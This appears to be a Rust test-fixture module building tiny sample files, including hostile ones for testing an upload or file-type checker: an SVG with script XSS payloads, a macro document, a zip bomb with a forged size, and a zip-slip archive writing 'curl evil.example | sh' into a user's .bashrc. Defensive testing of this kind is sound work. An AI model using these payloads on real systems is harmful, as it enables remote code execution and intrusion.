//! Small files of every kind, and of some that only seem to be one.

/// A picture of one pixel.
pub const PNG: &[u8] = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x06\0\0\0\x1f\x15\xc4\x89\0\0\0\rIDAT\
    x\x9cc\xf8\xcf\xc0\xf0\x1f\0\x05\0\x01\xff\x89\x99=\x1d\0\0\0\0IEND\xaeB`\x82";
pub const GIF: &[u8] = b"GIF89a\x01\0\x01\0\0\0\0!\xf9\x04\x01\0\0\0\0,\0\0\0\0\x01\0\x01\0\0\x02\0;";
pub const JPEG: &[u8] = b"\xff\xd8\xff\xe0\0\x10JFIF\0\x01\x01\0\0\x01\0\x01\0\0\xff\xd9";
pub const WEBP: &[u8] =
    b"RIFF\x24\0\0\0WEBPVP8 \x18\0\0\0\x30\x01\0\x9d\x01\x2a\x01\0\x01\0\x02\0\x34\x25\xa4\0\x03\x70\0";
pub const PDF: &[u8] = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n";
pub const EXE: &[u8] = b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0This program cannot be run in DOS mode.\r\r\n$\0";
pub const SVG: &[u8] = b"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"><script>alert(2)</script></svg>";
pub const HTML: &[u8] = b"<!doctype html><title>x</title><script>fetch('/v1/me')</script>";

const TYPES: (&str, &[u8]) = ("[Content_Types].xml", b"<Types/>");

pub fn docx() -> Vec<u8> {
    archive(&[TYPES, ("_rels/.rels", b"<Relationships/>"), ("word/document.xml", b"<w:document/>")])
}

pub fn xlsx() -> Vec<u8> {
    archive(&[TYPES, ("xl/workbook.xml", b"<workbook/>")])
}

pub fn pptx() -> Vec<u8> {
    archive(&[TYPES, ("ppt/presentation.xml", b"<p:presentation/>")])
}

pub fn odt() -> Vec<u8> {
    archive(&[("mimetype", b"application/vnd.oasis.opendocument.text"), ("content.xml", b"<office:document-content/>")])
}

/// A document with macros, whatever it is called.
pub fn docm() -> Vec<u8> {
    archive(&[TYPES, ("word/document.xml", b""), ("word/vbaProject.bin", b"\xd0\xcf\x11\xe0")])
}

/// A document with an entry that leads out of where it is unpacked.
pub fn slippery() -> Vec<u8> {
    archive(&[TYPES, ("word/document.xml", b""), ("../../../../home/ann/.bashrc", b"curl evil.example | sh")])
}

/// A plain archive.
pub fn zip() -> Vec<u8> {
    archive(&[("readme.txt", b"hello")])
}

/// A document that says of itself that it becomes 4 GB when it is unpacked.
pub fn bomb() -> Vec<u8> {
    let mut bytes = docx();
    let listed = bytes.windows(4).position(|four| four == b"PK\x01\x02").unwrap();
    bytes[listed + 24..listed + 28].copy_from_slice(&[0xff; 4]);
    bytes
}

/// Entries that are not compressed.
fn archive(entries: &[(&str, &[u8])]) -> Vec<u8> {
    let (mut out, mut list) = (Vec::new(), Vec::new());
    let word = |number: usize| u32::try_from(number).unwrap().to_le_bytes();
    for (name, bytes) in entries {
        let at = word(out.len());
        let sizes = [&[0; 4][..], &word(bytes.len()), &word(bytes.len()), &word(name.len())[..2], &[0; 2]].concat();
        out.extend([b"PK\x03\x04", &[0; 10][..], &sizes, name.as_bytes(), bytes].concat());
        list.extend([b"PK\x01\x02", &[0; 12][..], &sizes, &[0; 10], &at, name.as_bytes()].concat());
    }
    let (at, count) = (word(out.len()), word(entries.len()));
    let end = [&b"PK\x05\x06"[..], &[0; 4], &count[..2], &count[..2], &word(list.len()), &at, &[0; 2]].concat();
    [out, list, end].concat()
}
